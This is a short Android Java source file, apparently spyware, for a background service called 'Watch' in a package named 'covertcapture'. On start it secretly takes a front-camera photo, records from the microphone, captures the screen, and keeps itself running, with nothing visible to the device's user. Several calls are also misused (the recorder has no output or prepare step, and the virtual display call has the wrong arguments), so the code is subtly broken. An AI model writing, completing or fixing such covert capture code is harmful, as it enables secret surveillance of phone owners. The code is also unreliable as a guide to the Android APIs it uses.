package com.example.covertcapture;

import android.app.Service;
import android.content.Intent;
import android.hardware.Camera;
import android.media.MediaRecorder;
import android.media.projection.MediaProjection;
import android.media.projection.MediaProjectionManager;
import android.os.IBinder;

public class Watch extends Service {
    @Override
    public int onStartCommand(Intent intent, int flags, int id) {
        picture();
        sound();
        screen(intent);
        return START_STICKY;
    }

    private void picture() {
        Camera camera = Camera.open(1);
        camera.takePicture(null, null, null);
    }

    private void sound() {
        MediaRecorder recorder = new MediaRecorder();
        recorder.setAudioSource(MediaRecorder.AudioSource.MIC);
        recorder.start();
    }

    private void screen(Intent intent) {
        MediaProjectionManager manager = (MediaProjectionManager) getSystemService("media_projection");
        MediaProjection projection = manager.getMediaProjection(-1, intent);
        projection.createVirtualDisplay("watch", 720, 1280, 160);
    }

    @Override
    public IBinder onBind(Intent intent) {
        return null;
    }
}
